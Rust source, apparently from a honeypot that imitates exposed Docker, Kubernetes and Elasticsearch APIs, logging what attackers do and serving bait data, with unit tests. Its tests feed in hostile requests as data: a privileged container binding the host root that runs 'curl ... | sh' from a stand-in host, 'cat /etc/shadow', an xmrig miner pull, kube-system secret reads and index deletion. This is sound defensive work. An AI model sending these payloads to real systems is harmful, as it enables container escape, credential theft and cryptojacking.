/// What a defender wants to know about an API request, beyond the request itself: a container
/// create with its image, command, binds and privileged flag, an exec, a secrets read, an index
/// search or delete. Pure.
pub(super) fn observe(
    req: &Request,
    ctx: &ServiceCtx,
    status: u16,
    flavor: Flavor,
) -> Option<(AttackKind, AttackDetails)> {
    let host = ctx.hostname.as_str();
    let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
    let mut extra = Fields::new();
    match flavor {
        Flavor::DockerApi => {
            let path = docker_path(req);
            let segs: Vec<&str> = path.trim_matches('/').split('/').collect();
            if req.method != "POST" {
                return None;
            }
            match segs.as_slice() {
                ["containers", "create"] => {
                    let mut argv = strings(&body["Entrypoint"]);
                    let cmd = strings(&body["Cmd"]);
                    argv.extend(cmd.iter().cloned());
                    let host = &body["HostConfig"];
                    extra.insert(
                        "image".into(),
                        Value::from(clip(
                            body["Image"].as_str().unwrap_or_default().as_bytes(),
                            512,
                        )),
                    );
                    extra.insert("cmd".into(), Value::from(cmd));
                    extra.insert("binds".into(), Value::from(strings(&host["Binds"])));
                    extra.insert(
                        "privileged".into(),
                        Value::from(host["Privileged"].as_bool().unwrap_or(false)),
                    );
                    for (key, v) in [
                        ("network_mode", &host["NetworkMode"]),
                        ("pid_mode", &host["PidMode"]),
                    ] {
                        if let Some(v) = v.as_str().filter(|v| !v.is_empty()) {
                            extra.insert(key.into(), Value::from(clip(v.as_bytes(), 128)));
                        }
                    }
                    if let Some(name) = query_param(req, "name") {
                        extra.insert("name".into(), Value::from(clip(name.as_bytes(), 128)));
                    }
                    if !body["Env"].is_null() {
                        extra.insert("env".into(), Value::from(strings(&body["Env"])));
                    }
                    Some(action(
                        AttackKind::Exec,
                        "container_create",
                        Some(argv.join(" ")),
                        extra,
                    ))
                }
                ["containers", id, "exec"] => {
                    let cmd = strings(&body["Cmd"]);
                    extra.insert("container".into(), Value::from(clip(id.as_bytes(), 128)));
                    extra.insert("cmd".into(), Value::from(cmd.clone()));
                    extra.insert(
                        "privileged".into(),
                        Value::from(body["Privileged"].as_bool().unwrap_or(false)),
                    );
                    Some(action(
                        AttackKind::Exec,
                        "exec_create",
                        Some(cmd.join(" ")),
                        extra,
                    ))
                }
                ["exec", id, "start"] => {
                    extra.insert("exec".into(), Value::from(clip(id.as_bytes(), 128)));
                    if let Some(t) = body["Tty"].as_bool() {
                        extra.insert("tty".into(), Value::from(t));
                    }
                    if body["Detach"].as_bool() == Some(true) {
                        extra.insert("detach".into(), Value::from(true));
                    }
                    Some(action(AttackKind::Command, "exec_start", None, extra))
                }
                ["containers", id, "attach"] => {
                    extra.insert("container".into(), Value::from(clip(id.as_bytes(), 128)));
                    Some(action(AttackKind::Command, "container_attach", None, extra))
                }
                ["containers", id, "start"] => {
                    extra.insert("container".into(), Value::from(clip(id.as_bytes(), 128)));
                    Some(action(AttackKind::Command, "container_start", None, extra))
                }
                ["images", "create"] => {
                    let image = query_param(req, "fromImage").unwrap_or_default();
                    let tag = query_param(req, "tag").unwrap_or_default();
                    extra.insert(
                        "image".into(),
                        Value::from(clip(format!("{image}:{tag}").as_bytes(), 512)),
                    );
                    Some(action(AttackKind::Command, "image_pull", None, extra))
                }
                _ => None,
            }
        }
        Flavor::K8s => {
            let segs: Vec<&str> = req.path().trim_matches('/').split('/').collect();
            match segs.as_slice() {
                ["api", "v1", "namespaces", ns, "pods", pod, "exec" | "attach"] => {
                    let cmd: Vec<String> = form_pairs(req.query().unwrap_or_default())
                        .into_iter()
                        .filter(|(k, _)| k == "command")
                        .map(|(_, v)| clip(v.as_bytes(), 1024))
                        .take(64)
                        .collect();
                    extra.insert("namespace".into(), Value::from(clip(ns.as_bytes(), 128)));
                    extra.insert("pod".into(), Value::from(clip(pod.as_bytes(), 128)));
                    extra.insert("cmd".into(), Value::from(cmd.clone()));
                    Some(action(
                        AttackKind::Exec,
                        "pod_exec",
                        Some(cmd.join(" ")),
                        extra,
                    ))
                }
                ["api", "v1", "namespaces", ns, "secrets", rest @ ..] => {
                    extra.insert("namespace".into(), Value::from(clip(ns.as_bytes(), 128)));
                    let mut handed: Vec<String> = http_bait::secrets(Some(ns))
                        .map(|s| http_bait::secret_name(host, s))
                        .collect();
                    if let Some(name) = rest.first() {
                        extra.insert("secret".into(), Value::from(clip(name.as_bytes(), 128)));
                        handed.retain(|n| n == name);
                    }
                    if status == 200 {
                        // The bait the attacker now holds (its tokens are the decky's own).
                        extra.insert("bait".into(), Value::from(handed));
                    }
                    Some(action(AttackKind::Command, "secrets_read", None, extra))
                }
                ["api", "v1", "secrets"] => {
                    if status == 200 {
                        let handed: Vec<String> = http_bait::secrets(None)
                            .map(|s| format!("{}/{}", s.namespace, http_bait::secret_name(host, s)))
                            .collect();
                        extra.insert("bait".into(), Value::from(handed));
                    }
                    Some(action(AttackKind::Command, "secrets_read", None, extra))
                }
                ["api", "v1", "namespaces", ns, "pods"] if req.method == "POST" => {
                    let containers = body["spec"]["containers"]
                        .as_array()
                        .cloned()
                        .unwrap_or_default();
                    let images: Vec<Value> = containers
                        .iter()
                        .take(16)
                        .map(|c| {
                            Value::from(clip(
                                c["image"].as_str().unwrap_or_default().as_bytes(),
                                512,
                            ))
                        })
                        .collect();
                    let mut argv = Vec::new();
                    if let Some(c) = containers.first() {
                        argv = strings(&c["command"]);
                        argv.extend(strings(&c["args"]));
                    }
                    extra.insert("namespace".into(), Value::from(clip(ns.as_bytes(), 128)));
                    extra.insert("images".into(), Value::Array(images));
                    extra.insert(
                        "privileged".into(),
                        Value::from(
                            containers.iter().any(|c| {
                                c["securityContext"]["privileged"].as_bool() == Some(true)
                            }),
                        ),
                    );
                    extra.insert(
                        "host_path".into(),
                        Value::from(
                            body["spec"]["volumes"]
                                .as_array()
                                .is_some_and(|v| v.iter().any(|v| !v["hostPath"].is_null())),
                        ),
                    );
                    Some(action(
                        AttackKind::Exec,
                        "pod_create",
                        Some(argv.join(" ")),
                        extra,
                    ))
                }
                _ => None,
            }
        }
        Flavor::Elasticsearch => {
            let path = req.path().trim_start_matches('/');
            let mut segs = path.split('/');
            let index = segs.next().unwrap_or_default();
            let op = segs.next().unwrap_or_default();
            extra.insert("index".into(), Value::from(clip(index.as_bytes(), 256)));
            let name = match (req.method.as_str(), op) {
                ("GET", "indices") if index == "_cat" => {
                    extra.remove("index");
                    extra.insert(
                        "indices".into(),
                        Value::from(bait::ES_INDICES.iter().map(|i| i.name).collect::<Vec<_>>()),
                    );
                    "indices_list"
                }
                (_, "_search") => {
                    if status == 200 {
                        let n = es_indices(if index == "_search" { "" } else { index })
                            .map_or(0, |ix| ix.iter().map(|i| i.documents.len()).sum::<usize>())
                            .min(es_size(req));
                        extra.insert("hits".into(), Value::from(n));
                    }
                    extra.remove("index");
                    extra.insert(
                        "index".into(),
                        Value::from(clip(
                            if index == "_search" { "" } else { index }.as_bytes(),
                            256,
                        )),
                    );
                    if req.body_len > 0 {
                        extra.insert("query".into(), Value::from(clip(&req.body, 1024)));
                    }
                    "index_search"
                }
                ("DELETE", _) if !index.is_empty() => "index_delete",
                ("PUT" | "POST", "_doc" | "_create" | "")
                    if !index.is_empty() && !index.starts_with('_') =>
                {
                    if req.body_len > 0 {
                        extra.insert("document".into(), Value::from(clip(&req.body, 1024)));
                    }
                    "index_write"
                }
                _ if index == "_search" => "index_search",
                _ => return None,
            };
            Some(action(
                AttackKind::Command,
                name,
                Some(format!("{} /{}", req.method, clip(path.as_bytes(), 512))),
                extra,
            ))
        }
        Flavor::Web => None,
    }
}

/// 64 hex digits, stable for `seed` (container and image ids).
fn hex_id(seed: &str) -> String {
    use sha2::{Digest as _, Sha256};
    crate::util::hex(&Sha256::digest(seed.as_bytes()))
}

fn unix_now() -> u64 {
    SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
}

/// `abc` of `/containers/abc/json`.
fn container_key(path: &str) -> &str {
    path.trim_start_matches("/containers/")
        .trim_end_matches("/json")
}

/// The bait container named or id-prefixed by `key`.
fn docker_container(
    ctx: &ServiceCtx,
    key: &str,
) -> Option<(&'static str, &'static str, &'static str, u16)> {
    DOCKER_CONTAINERS.iter().copied().find(|(name, ..)| {
        *name == key
            || (key.len() >= 4 && hex_id(&format!("{}/{name}", ctx.hostname)).starts_with(key))
    })
}

/// The containers the Docker persona runs: (name, image, command, port).
const DOCKER_CONTAINERS: &[(&str, &str, &str, u16)] = &[
    (
        "web",
        "nginx:1.25",
        "/docker-entrypoint.sh nginx -g 'daemon off;'",
        80,
    ),
    ("db", "postgres:15", "docker-entrypoint.sh postgres", 5432),
];

/// Elasticsearch's 404 for a missing index.
fn es_not_found(index: &str) -> Response {
    Response::json(
        404,
        &json!({
            "error": {
                "root_cause": [{"type": "index_not_found_exception", "reason": format!("no such index [{index}]"), "index": index}],
                "type": "index_not_found_exception",
                "reason": format!("no such index [{index}]"),
                "index": index
            },
            "status": 404
        }),
        false,
    )
}

/// The indices an index expression names (`""`, `_all`, `*`, `a,b`, `user*`); `None` if a
/// concrete name is missing (Elasticsearch's 404).
fn es_indices(expr: &str) -> Option<Vec<&'static BaitIndex>> {
    if expr.is_empty() || expr == "_all" || expr == "*" {
        return Some(bait::ES_INDICES.iter().collect());
    }
    let mut out: Vec<&'static BaitIndex> = Vec::new();
    for part in expr.split(',').take(32) {
        if let Some(prefix) = part.strip_suffix('*') {
            out.extend(
                bait::ES_INDICES
                    .iter()
                    .filter(|i| i.name.starts_with(prefix)),
            );
        } else {
            out.push(http_bait::index(part)?);
        }
    }
    out.dedup_by_key(|i| i.name);
    Some(out)
}

/// A search's `size` (query or body), default 10, at most 100.
fn es_size(req: &Request) -> usize {
    let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
    query_param(req, "size")
        .and_then(|s| s.parse().ok())
        .or_else(|| body["size"].as_u64().and_then(|n| usize::try_from(n).ok()))
        .unwrap_or(10)
        .min(100)
}

fn es_at_least(version: &str, major: u32, minor: u32) -> bool {
    let mut parts = version.split('.').map(|p| p.parse::<u32>().unwrap_or(0));
    let (ma, mi) = (parts.next().unwrap_or(0), parts.next().unwrap_or(0));
    (ma, mi) >= (major, minor)
}

/// An id that is stable for a decky (same answer on every connection).
fn stable_id(seed: &str, len: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::with_capacity(len);
    let mut round = 0u64;
    while out.len() < len {
        let mut h = DefaultHasher::new();
        (seed, round).hash(&mut h);
        let mut v = h.finish();
        for _ in 0..10 {
            if out.len() == len {
                break;
            }
            out.push(ALPHABET[(v & 63) as usize] as char);
            v >>= 6;
        }
        round += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::super::testing::run;
    use super::*;

    fn split(out: &str) -> (&str, Value) {
        let (head, body) = out.split_once("\r\n\r\n").expect("head/body");
        (head, serde_json::from_str(body).unwrap_or(Value::Null))
    }

    #[test]
    fn docker_version_and_ping() {
        let (out, _) = run("docker_api", json!({}), b"GET /version HTTP/1.1\r\n\r\n");
        let (head, body) = split(&out);
        assert!(head.contains("Server: Docker/20.10.24 (linux)"));
        assert!(head.contains("Api-Version: 1.41"));
        assert_eq!(body["Version"], "20.10.24");
        assert_eq!(body["ApiVersion"], "1.41");
        assert!(out.contains("\r\n\r\n{\"Platform\":{\"Name\":\"Docker Engine - Community\"},\"Components\":[{\"Name\":\"Engine\",\"Version\":\"20.10.24\",\"Details\":{\"ApiVersion\""), "{out}");
        let (out, _) = run("docker_api", json!({}), b"GET / HTTP/1.0\r\n\r\n");
        assert!(
            out.starts_with("HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\nDate: "),
            "{out}"
        );
        assert_eq!(split(&out).1["message"], "page not found");
        // Go's wire format, as nmap's Docker signature expects it.
        let (out, _) = run("docker_api", json!({}), b"OPTIONS / HTTP/1.0\r\n\r\n");
        let sig = "HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/20.10.24 (linux)\r\nDate: ";
        assert!(out.starts_with(sig), "{out}");
        assert!(out.ends_with(" GMT\r\nContent-Length: 0\r\n\r\n"), "{out}");
        let (out, _) = run(
            "docker_api",
            json!({}),
            b"GET /v1.41/_ping HTTP/1.1\r\n\r\n",
        );
        assert!(out.ends_with("\r\n\r\nOK"));
        let (out, f) = run(
            "docker_api",
            json!({}),
            b"POST /v1.41/containers/create HTTP/1.1\r\nContent-Length: 17\r\n\r\n{\"Image\":\"xmrig\"}",
        );
        assert!(out.starts_with("HTTP/1.1 201 Created"));
        assert_eq!(f["body"], "{\"Image\":\"xmrig\"}");
        let (out, _) = run(
            "docker_api",
            json!({}),
            b"GET /v1.41/containers/json HTTP/1.0\r\n\r\n",
        );
        let list = split(&out).1;
        assert_eq!(list[0]["Names"][0], "/web", "{out}");
        assert_eq!(list[1]["Image"], "postgres:15");
        assert_eq!(list[0]["Id"].as_str().map(str::len), Some(64));
        assert!(out.contains("[{\"Id\":"), "{out}");
        let (out, _) = run(
            "docker_api",
            json!({}),
            b"GET /images/json HTTP/1.0\r\n\r\n",
        );
        assert_eq!(split(&out).1[0]["RepoTags"][0], "nginx:1.25");
        let (out, _) = run("docker_api", json!({}), b"GET /nope HTTP/1.1\r\n\r\n");
        assert_eq!(split(&out).1["message"], "page not found");
    }

    #[test]
    fn elasticsearch_root() {
        let (out, _) = run(
            "elasticsearch",
            json!({"cluster_name": "prod-logs"}),
            b"GET / HTTP/1.1\r\n\r\n",
        );
        let (head, body) = split(&out);
        assert!(!head.contains("X-elastic-product"));
        assert!(head.starts_with("HTTP/1.1 200 OK\r\ncontent-type: application/json; charset=UTF-8\r\ncontent-length: "), "{head}");
        assert!(!head.contains("Server:"));
        assert_eq!(body["name"], "web-01");
        assert_eq!(body["cluster_name"], "prod-logs");
        assert_eq!(body["version"]["number"], "7.10.2");
        assert_eq!(body["version"]["lucene_version"], "8.7.0");
        assert!(
            out.contains("\n  \"name\" : \"web-01\",\n  \"cluster_name\" : \"prod-logs\",\n"),
            "{out}"
        );
        let (out, _) = run(
            "elasticsearch",
            json!({"version": "7.17.9"}),
            b"GET / HTTP/1.0\r\n\r\n",
        );
        assert!(
            out.starts_with("HTTP/1.0 200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type"),
            "{out}"
        );
        assert_eq!(body["tagline"], "You Know, for Search");
        assert_eq!(body["cluster_uuid"].as_str().map(str::len), Some(22));
        let (out, _) = run(
            "elasticsearch",
            json!({}),
            b"GET /secrets/_search HTTP/1.1\r\n\r\n",
        );
        assert_eq!(split(&out).1["error"]["type"], "index_not_found_exception");
    }

    #[test]
    fn k8s_forbidden_and_version() {
        use super::super::super::testing::ctx;
        let c = ctx("k8s", json!({}));
        let get = |target: &str, auth: bool| {
            let mut r = Request {
                method: "GET".into(),
                target: target.into(),
                version: "HTTP/1.1".into(),
                ..Request::default()
            };
            if auth {
                r.headers
                    .push(("Authorization".into(), "Bearer abc".into()));
            }
            r
        };
        let resp = k8s(&get("/api/v1/secrets", false), &c, false);
        let out = String::from_utf8_lossy(&resp.to_bytes(false, false)).into_owned();
        let (head, body) = split(&out);
        assert!(out.ends_with("{\n  \"kind\": \"Status\",\n  \"apiVersion\": \"v1\",\n  \"metadata\": {},\n  \"status\": \"Failure\",\n  \"message\": \"forbidden: User \\\"system:anonymous\\\" cannot get path \\\"/api/v1/secrets\\\"\",\n  \"reason\": \"Forbidden\",\n  \"details\": {},\n  \"code\": 403\n}\n"), "{out}");
        assert!(head.starts_with("HTTP/1.1 403 Forbidden"));
        assert!(head.contains("Audit-Id: "));
        assert_eq!(body["kind"], "Status");
        assert_eq!(body["apiVersion"], "v1");
        assert_eq!(body["code"], 403);
        assert_eq!(
            body["message"],
            "forbidden: User \"system:anonymous\" cannot get path \"/api/v1/secrets\""
        );
        assert_eq!(k8s(&get("/api", true), &c, false).status, 401);
        assert_eq!(k8s(&get("/version", false), &c, false).status, 200);
        // The insecure plain port serves everything.
        let (out, _) = run(
            "k8s",
            json!({"version": "v1.27.3"}),
            b"GET /version HTTP/1.0\r\n\r\n",
        );
        assert_eq!(split(&out).1["gitVersion"], "v1.27.3");
        assert_eq!(split(&out).1["minor"], "27");
        assert!(
            out.contains(
                "{\n  \"major\": \"1\",\n  \"minor\": \"27\",\n  \"gitVersion\": \"v1.27.3\","
            ),
            "{out}"
        );
        let (out, _) = run("k8s", json!({}), b"GET /api HTTP/1.0\r\n\r\n");
        assert_eq!(split(&out).1["kind"], "APIVersions");
        let (out, _) = run("k8s", json!({}), b"GET /apis HTTP/1.0\r\n\r\n");
        assert_eq!(split(&out).1["kind"], "APIGroupList");
        let (out, _) = run("k8s", json!({}), b"GET /api/v1/namespaces HTTP/1.0\r\n\r\n");
        assert_eq!(split(&out).1["items"][1]["metadata"]["name"], "kube-system");
        // Discovery: what kubectl needs to map `secrets` or `deploy` to a path.
        let (out, _) = run("k8s", json!({}), b"GET /api/v1 HTTP/1.0\r\n\r\n");
        let v = split(&out).1;
        assert_eq!(v["kind"], "APIResourceList");
        assert!(v["resources"].as_array().is_some_and(|r| r
            .iter()
            .any(|r| r["name"] == "secrets" && r["namespaced"] == true)));
        let (out, _) = run("k8s", json!({}), b"GET /apis/apps/v1 HTTP/1.0\r\n\r\n");
        assert_eq!(split(&out).1["resources"][1]["shortNames"][0], "deploy");
        let (out, _) = run(
            "k8s",
            json!({}),
            b"GET /apis/apps/v1/namespaces/default/deployments HTTP/1.0\r\n\r\n",
        );
        assert_eq!(split(&out).1["kind"], "DeploymentList");
        let (out, _) = run(
            "k8s",
            json!({}),
            b"GET /apis/apps/v1/widgets HTTP/1.0\r\n\r\n",
        );
        assert!(out.starts_with("HTTP/1.0 404 "), "{out}");
    }

    fn actions(ev: &[crate::log::AttackEvent]) -> Vec<&crate::log::AttackEvent> {
        ev.iter()
            .filter(|e| e.details.extra.contains_key("action"))
            .collect()
    }

    #[test]
    fn docker_container_create_and_exec_are_recorded() {
        use super::super::super::testing::run_events;
        let body = r#"{"Image":"alpine","Cmd":["sh","-c","curl -s http://x/m.sh|sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"PidMode":"host"}}"#;
        let input = format!(
            "POST /v1.41/containers/create?name=x1 HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}\
             POST /v1.41/containers/abc/exec HTTP/1.1\r\nContent-Length: 29\r\n\r\n{{\"Cmd\":[\"cat\",\"/etc/shadow\"]}}\
             POST /v1.41/images/create?fromImage=xmrig%2Fxmrig&tag=latest HTTP/1.1\r\nConnection: close\r\n\r\n",
            body.len()
        );
        let (out, f, ev) = run_events("docker_api", json!({}), input.as_bytes());
        assert!(out.starts_with("HTTP/1.1 201 Created"), "{out}");
        let a = actions(&ev);
        assert_eq!(a.len(), 3, "{ev:?}");
        let d = &a[0].details;
        assert_eq!(a[0].kind, AttackKind::Exec);
        assert_eq!(d.extra["action"], "container_create");
        assert_eq!(d.extra["image"], "alpine");
        assert_eq!(
            d.extra["cmd"],
            json!(["sh", "-c", "curl -s http://x/m.sh|sh"])
        );
        assert_eq!(d.extra["binds"], json!(["/:/host"]));
        assert_eq!(d.extra["privileged"], true);
        assert_eq!(d.extra["pid_mode"], "host");
        assert_eq!(d.extra["name"], "x1");
        assert_eq!(d.command.as_deref(), Some("sh -c curl -s http://x/m.sh|sh"));
        assert_eq!(a[1].details.extra["action"], "exec_create");
        assert_eq!(a[1].details.command.as_deref(), Some("cat /etc/shadow"));
        assert_eq!(a[2].details.extra["image"], "xmrig/xmrig:latest");
        assert_eq!(
            f["actions"],
            json!(["container_create", "exec_create", "image_pull"])
        );
    }

    #[test]
    fn k8s_secrets_and_exec_are_recorded() {
        use super::super::super::testing::run_events;
        let (out, _, ev) = run_events(
            "k8s",
            json!({}),
            b"GET /api/v1/namespaces/kube-system/secrets HTTP/1.1\r\n\r\n\
              POST /api/v1/namespaces/default/pods/web-0/exec?command=sh&command=-c&command=id&stdin=true HTTP/1.1\r\nConnection: close\r\n\r\n",
        );
        assert!(out.contains("\"kind\": \"SecretList\""), "{out}");
        let a = actions(&ev);
        assert_eq!(a[0].details.extra["action"], "secrets_read");
        assert_eq!(a[0].details.extra["namespace"], "kube-system");
        assert_eq!(a[1].kind, AttackKind::Exec);
        assert_eq!(a[1].details.extra["pod"], "web-0");
        assert_eq!(a[1].details.command.as_deref(), Some("sh -c id"));
    }

    #[test]
    fn elasticsearch_indices_search_and_delete() {
        use super::super::super::testing::run_events;
        let (out, _, ev) = run_events(
            "elasticsearch",
            json!({}),
            b"GET /_cat/indices?v HTTP/1.1\r\n\r\n\
              POST /customers/_search HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 26\r\n\r\n{\"query\":{\"match_all\":{}}}\
              DELETE /customers HTTP/1.1\r\n\r\nPUT /read_me/_doc/1 HTTP/1.1\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
        );
        assert!(out.contains("health status index"), "{out}");
        assert!(out.contains("customers"));
        assert!(out.contains("\"acknowledged\":true"));
        assert!(out.contains("\"result\":\"created\""));
        let a = actions(&ev);
        let names: Vec<&Value> = a.iter().map(|e| &e.details.extra["action"]).collect();
        assert_eq!(
            names,
            [
                &json!("indices_list"),
                &json!("index_search"),
                &json!("index_delete"),
                &json!("index_write")
            ]
        );
        assert_eq!(a[0].details.extra["indices"][0], "customers");
        assert_eq!(a[1].details.extra["index"], "customers");
        assert_eq!(a[1].details.extra["hits"], 3);
        assert_eq!(a[2].details.command.as_deref(), Some("DELETE /customers"));
        assert_eq!(a[3].details.extra["index"], "read_me");
        assert!(out.contains("\"name\":\"Maria Gonzalez\""), "{out}");
    }

    #[test]
    fn stable_ids() {
        assert_eq!(stable_id("a", 22), stable_id("a", 22));
        assert_ne!(stable_id("a", 22), stable_id("b", 22));
        assert_eq!(stable_id("a", 36).len(), 36);
    }
}
